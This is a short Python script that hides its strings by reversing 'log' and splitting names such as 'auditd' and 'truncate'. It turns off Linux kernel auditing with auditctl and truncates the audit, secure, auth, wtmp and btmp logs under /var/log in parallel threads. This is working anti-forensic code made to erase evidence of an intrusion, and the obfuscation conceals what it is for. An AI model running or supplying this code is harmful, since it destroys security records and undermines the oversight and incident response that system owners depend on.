import glob
import os
import subprocess
from threading import Thread

BASE = "/".join(["", "var", "gol"[::-1]])
NAMES = ["au" + "dit/*", "sec" + "ure*", "au" + "th.l*", "w" + "tmp", "b" + "tmp"]

subprocess.call(["au" + "ditctl", "-e", str(int(False))])
workers = []
for name in NAMES:
    for path in glob.glob(os.path.join(BASE, name)):
        t = Thread(target=getattr(os, "trunc" + "ate"), args=(path, 0))
        t.start()
        workers.append(t)
for t in workers:
    t.join()
